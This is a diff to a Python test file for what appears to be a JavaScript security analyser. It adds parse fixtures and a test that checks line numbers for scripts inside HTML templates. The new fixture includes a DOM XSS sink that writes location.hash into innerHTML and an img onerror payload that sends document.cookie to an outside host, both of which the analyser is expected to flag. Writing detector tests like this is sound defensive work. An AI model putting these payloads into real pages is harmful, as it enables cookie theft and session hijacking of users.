@@ -92,6 +92,9 @@ def test_a_piece_of_a_file_is_read_as_well_as_it_can_be() -> None:
         "    name: 'x',\n    go: () => { CHANGED },\n    last: 1,\n",
         "      })\n    );\n  CHANGED\n};\n",
         "    case 1:\n      CHANGED\n      break;\n",
+        " * @public\n */\n\napp.listen = function () {\n  CHANGED\n}\n\n/**\n * Log.\n",
+        "  } else {\n    CHANGED\n  }\n  list.forEach((each) => {\n    // each\n",
+        "  label,\n  route,\n}: Props) => {\n  CHANGED\n  return (\n    <Box padding={4}>\n",
     ],
 )
 def test_pieces_of_every_kind_parse(piece: str) -> None:
@@ -116,6 +119,18 @@ def test_pieces_of_every_kind_parse(piece: str) -> None:
 def test_a_piece_that_cannot_be_read_is_said() -> None:
     file = changed_file("a.ts", "keep();\n" * 9 + "let = = (;\n" + "keep();\n" * 9, "keep();\n" * 18, whole=False)
     assert [finding.rule for finding in JavaScriptAnalyser().examine_file(file)] == ["js-partly-read"]
+
+
+def test_scripts_of_pages_and_templates_keep_their_lines() -> None:
+    text = (
+        '<p onclick="return confirm(1)">hi</p>\n<script type="application/json">{"a": 1}</script>\n<script>\n'
+        "var items = {{ items|tojson }};\n{% if x %}\ndocument.body.innerHTML = location.hash;\n{% endif %}\n</script>\n"
+        "<img src=x onerror=\"fetch('https://c.acme.net/?c=' + document.cookie)\">\n"
+    )
+    assert [(each.rule, each.line) for each in found(text, "templates/a.html")] == [
+        ("js-xss", 6),
+        ("js-exfiltration", 9),
+    ]
 
 
 def test_scripts_in_components_keep_their_lines() -> None:
